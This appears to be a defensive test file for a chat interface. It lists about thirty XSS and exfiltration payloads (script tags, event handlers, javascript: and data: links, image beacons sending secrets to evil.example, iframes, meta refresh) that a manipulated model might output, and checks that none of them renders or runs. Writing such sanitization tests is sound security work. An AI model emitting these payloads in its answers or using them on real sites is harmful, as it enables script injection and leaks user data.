import { expect } from 'vitest';
import type { ChatPage } from './chat-page.ts';

/** What a model says that was talked into attacking its reader. Each would leave a mark or a request. */
export const payloads: readonly string[] = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 2">',
  '<img src="https://evil.example/pixel.png?secret=1">',
  '![pixel](https://evil.example/pixel.png?secret=2)',
  '![pixel](//evil.example/pixel.png)',
  '![data](data:text/html,<script>window.pwned=3</script>)',
  '[click](javascript:window.pwned=4)',
  '[click](JaVaScRiPt:window.pwned=5)',
  '[click](java&#x0A;script:window.pwned=6)',
  '[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9Nzwvc2NyaXB0Pg==)',
  '[click](vbscript:window.pwned=8)',
  '<javascript:window.pwned=9>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<iframe srcdoc="<script>parent.pwned=10</script>"></iframe>',
  '<svg onload="window.pwned=11"><animate onbegin="window.pwned=12" attributeName=x dur=1s></svg>',
  '<a href="javascript:window.pwned=13">click</a>',
  '<form action="https://evil.example/form"><button>click</button></form>',
  '<link rel="stylesheet" href="https://evil.example/style.css">',
  '<style>@import "https://evil.example/style.css"; body { display: none }</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<video src="https://evil.example/video" autoplay onerror="window.pwned=14"></video>',
  '<details open ontoggle="window.pwned=15"><summary>click</summary></details>',
  '<input autofocus onfocus="window.pwned=16">',
  '<object data="https://evil.example/object"></object>',
  '```html\n<script>window.pwned = 17</script>\n```',
  '```mermaid\ngraph TD; A[<img src=x onerror="window.pwned=18">]\n```',
  '| <img src=x onerror="window.pwned=19"> |\n| --- |\n| cell |',
  '$$\\href{javascript:window.pwned=20}{click}$$',
  '[ref]: javascript:window.pwned=21\n\n[click][ref]',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/bg.png)">cover</div>',
];

/** Nothing of what the messages say has run, or could. */
export async function expectHarmless(chat: ChatPage): Promise<void> {
  const answer = chat.page.getByTestId('assistant');
  for (const link of await answer.getByText('click', { exact: true }).all())
    await link.click({ timeout: 500, force: true }).catch(() => {});
  expect(await chat.page.evaluate(() => 'pwned' in window)).toBe(false);
  const forbidden =
    'script, img, iframe, object, embed, video, audio, form, input, style, link, meta, base';
  expect(await answer.locator(forbidden).count()).toBe(0);
  const links = await answer
    .locator('[href]')
    .evaluateAll((found) => found.map((link) => link.getAttribute('href')));
  expect(links.filter((href) => !/^(https?|mailto):/.test(href ?? ''))).toEqual([]);
  const handlers = await answer
    .locator('*')
    .evaluateAll((all) =>
      all.flatMap(({ attributes }) =>
        [...attributes].map(({ name }) => name).filter((name) => name.startsWith('on')),
      ),
    );
  expect(handlers).toEqual([]);
}
